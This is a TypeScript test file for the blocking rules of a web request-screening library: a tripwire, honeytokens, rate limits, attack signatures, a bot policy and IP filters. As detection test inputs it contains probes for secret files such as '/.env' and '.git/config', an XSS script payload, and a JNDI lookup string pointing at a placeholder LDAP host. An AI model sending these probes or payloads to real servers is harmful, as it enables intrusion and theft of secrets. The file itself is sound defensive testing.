import { describe, expect, it } from 'vitest';
import { decisionAttributes, type Rule } from '../src/index.ts';
import { attackSignatures } from '../src/rules/attack-signatures.ts';
import { botPolicy } from '../src/rules/bot-policy.ts';
import { honeytoken } from '../src/rules/honeytoken.ts';
import { ipFilter } from '../src/rules/ip-filter.ts';
import { rateLimit } from '../src/rules/rate-limit.ts';
import { tripwire } from '../src/rules/tripwire.ts';
import { memoryStore } from '../src/stores/memory-store.ts';
import { decide } from '../src/testing.ts';

const FACTS = {
  ip: '198.51.100.1',
  security: { vpn: false, proxy: null, tor: true, relay: null, hosting: false },
  location: { country: 'NL', city: null },
  network: { asn: 64_500, asn_org: 'Example' },
  reputation: { abuse_score: null, is_high_risk: false },
};

describe('rules', () => {
  it.each(['/.env', '/shop/.ENV', '/%2eenv', '//.git//config', '/wp-config.php.bak'])(
    'the tripwire knows %s',
    async (path) => {
      expect(await decide([tripwire()], { path })).toMatchObject({ action: 'block', reason: { rule: 'tripwire' } });
    },
  );

  it('the tripwire has places of other software, and paths of the site, where it is told to', async () => {
    const path = '/wp-login.php';
    expect((await decide([tripwire()], { path })).action).toBe('allow');
    expect((await decide([tripwire({ defaults: 'places' })], { path })).action).toBe('block');
    expect((await decide([tripwire({ defaults: 'none', paths: ['/Old-Admin'] })], { path: '/old-admin' })).action).toBe(
      'block',
    );
    expect((await decide([tripwire({ defaults: 'none' })], { path: '/.env' })).action).toBe('allow');
  });

  it('who touched bait is refused everywhere, and others at the same address are not', async () => {
    const store = memoryStore();
    const scanner = { 'user-agent': 'scanner' };
    await decide([tripwire()], { path: '/.env', headers: scanner }, { store });
    const again = await decide([tripwire()], { path: '/', headers: scanner }, { store });
    expect(again).toMatchObject({ action: 'block', reason: { rule: 'remembered', of: 'tripwire' } });
    expect((await decide([tripwire()], { path: '/' }, { store })).action).toBe('allow');
  });

  it.each([tripwire({ paths: ['/bait'] }), honeytoken({ path: '/bait' })])(
    'bait that a page of another site asks for is reported, and nobody is refused for it: $name',
    async (rule) => {
      const store = memoryStore();
      const headers = { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'image' };
      const decision = await decide([rule], { path: '/bait', headers }, { store });
      expect(decision).toMatchObject({
        action: 'allow',
        reason: { rule: rule.name },
        findings: [{ flags: ['cross_site'] }],
      });
      expect((await decide([rule], { path: '/' }, { store })).action).toBe('allow');
      expect((await decide([rule], { path: '/bait' }, { store })).action).toBe('block');
    },
  );

  it('a rule that only monitors finds, and refuses nobody', async () => {
    const decision = await decide([honeytoken({ path: '/x', mode: 'monitor' })], { path: '/x' });
    expect(decision).toMatchObject({
      action: 'allow',
      reason: { rule: 'honeytoken' },
      findings: [{ mode: 'monitor' }],
    });
  });

  it('the rate limit counts an IPv6 line as one, and no files', async () => {
    const store = memoryStore();
    const rules = [rateLimit({ max: 2 })];
    for (const ip of ['2001:db8::1', '2001:db8::2']) await decide(rules, { ip }, { store });
    for (let at = 0; at < 9; at++) await decide(rules, { ip: '2001:db8::1', path: '/style.css' }, { store });
    const third = await decide(rules, { ip: '2001:db8::3' }, { store });
    expect(third).toMatchObject({ action: 'throttle', retryAfterS: 60, reason: { rule: 'rate_limit', count: 3 } });
    expect((await decide(rules, { ip: '2001:db8:0:1::1' }, { store })).action).toBe('allow');
    // What is sent something is no file, whatever its name is.
    const form = { ip: '198.51.100.3', method: 'POST', path: '/login/style.css' };
    for (let at = 0; at < 2; at++) await decide(rules, form, { store });
    expect((await decide(rules, form, { store })).action).toBe('throttle');
    expect(() => rateLimit({ max: 0 })).toThrow('max must be');
  });

  it('attack signatures see the query and headers, not ordinary words', async () => {
    const rules = [attackSignatures()];
    const attack = await decide(rules, { path: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' });
    expect(attack.reason).toMatchObject({ rule: 'attack_signatures', type: 'xss' });
    const header = await decide(rules, { headers: { 'user-agent': `\${jndi:ldap://x.example/a}` } });
    expect(header.reason).toMatchObject({ type: 'jndi_lookup' });
    expect((await decide(rules, { path: '/?q=select+a+table+from+our+union+of+shops' })).action).toBe('allow');
  });

  it('the bot policy refuses by category, and allows by name', async () => {
    const headers = { 'user-agent': 'Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)' };
    expect(await decide([botPolicy({ deny: ['training_crawler'] })], { headers })).toMatchObject({
      action: 'block',
      reason: { rule: 'bot_policy', name: 'GPTBot', category: 'training_crawler' },
    });
    expect((await decide([botPolicy({ deny: ['training_crawler'], allow: ['gptbot'] })], { headers })).action).toBe(
      'allow',
    );
    expect((await decide([botPolicy({ deny: ['http_library', 'headless_browser'] })], {})).action).toBe('allow');
  });

  it('the filter asks about addresses that are known, and only those', async () => {
    const rules = [ipFilter({ name: 'tor', when: ({ security }) => security.tor === true })];
    expect((await decide(rules, {}, { ipFacts: FACTS })).reason).toEqual({ rule: 'ip_filter', name: 'tor' });
    expect((await decide(rules, {})).action).toBe('allow');
  });

  it('a rule of the site decides like the others; its failure is thrown in tests', async () => {
    const own: Rule = {
      name: 'no-posts',
      judge: ({ method }) => {
        if (method === 'PUT') throw new Error('broken rule');
        return method === 'POST'
          ? { action: 'block', reason: { rule: 'custom', name: 'no-posts' }, flags: ['rule:no-posts'] }
          : null;
      },
    };
    const decision = await decide([own], { method: 'POST' });
    expect(decisionAttributes(decision)).toEqual({
      'sundew.action': 'block',
      'sundew.findings': 1,
      'sundew.reason.rule': 'custom',
      'sundew.reason.name': 'no-posts',
    });
    await expect(decide([own], { method: 'PUT' })).rejects.toThrow('broken rule');
  });
});
